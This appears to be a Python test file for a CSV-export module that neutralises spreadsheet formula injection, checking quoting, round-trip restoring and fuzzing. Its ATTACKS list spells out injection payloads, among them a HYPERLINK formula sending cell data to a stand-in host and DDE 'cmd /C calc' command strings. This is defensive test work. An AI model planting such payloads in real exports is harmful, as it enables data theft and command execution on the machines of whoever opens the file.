"""Spreadsheet-safe CSV cells: nothing an export writes starts a formula, and the label readers get it all back."""

from __future__ import annotations

import csv

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stages.lib.core.spreadsheet import TRIGGERS, neutralise, neutralise_table, restore

from ..fuzz import FUZZ

ATTACKS = [
    '=HYPERLINK("http://evil.test/?"&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_get_a_text_marker_and_come_back(cell):
    out = neutralise(cell)
    assert out == "'" + cell
    assert restore(out) == cell


@pytest.mark.parametrize("cell", ["hello", "", "-1", "+0.5", "1e-3", "-.5", "a=b", " =1", "'quoted'", "’=x"])
def test_plain_cells_and_numbers_are_left_as_they_are(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_cells_that_already_look_neutralised_stay_distinct():
    # a text that begins with the marker itself must not lose a quote on the way back
    for cell in ("'=1+1", "''@x", "'-", "'"):
        assert restore(neutralise(cell)) == cell
    assert neutralise("'=1+1") == "''=1+1"


def test_a_cell_saved_back_by_a_spreadsheet_without_the_marker_is_kept():
    # Excel shows '=x as the text =x and writes =x when it saves the file again
    assert restore("=x") == "=x"


def test_non_strings_pass_through():
    assert neutralise(None) is None and neutralise(0.5) == 0.5 and restore(None) is None


@FUZZ
@given(st.text(alphabet=st.sampled_from(list(TRIGGERS + "'a1.eE ")) | st.characters(), max_size=12))
def test_fuzz_round_trip_and_no_cell_starts_a_formula(cell):
    out = neutralise(cell)
    assert restore(out) == cell
    if out and out[0] in TRIGGERS:  # only a plain number may start with + or -
        assert float(out) == float(cell)


def test_neutralise_table_touches_string_columns_only():
    table = pa.table({"text": ["=1+1", "ok", None], "score": [-1.0, 0.5, 0.1]})
    out = neutralise_table(table)
    assert out.column("text").to_pylist() == ["'=1+1", "ok", None]
    assert out.column("score").to_pylist() == [-1.0, 0.5, 0.1]
    assert out.schema == table.schema


def test_predict_csv_output_is_spreadsheet_safe(tmp_path):
    """predict writes untrusted input text to CSV too: the same neutralisation applies there."""
    from stages.lib.predict.output import write_table

    table = pa.table({"text": ["=cmd|' /C calc'!A0", "fine"], "label": ["spam", "ham"], "prob": [0.9, 0.8]})
    write_table(table, tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_text()
    cells = [c for row in csv.reader(text.splitlines()) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and not [c for c in cells if c.startswith("=")]
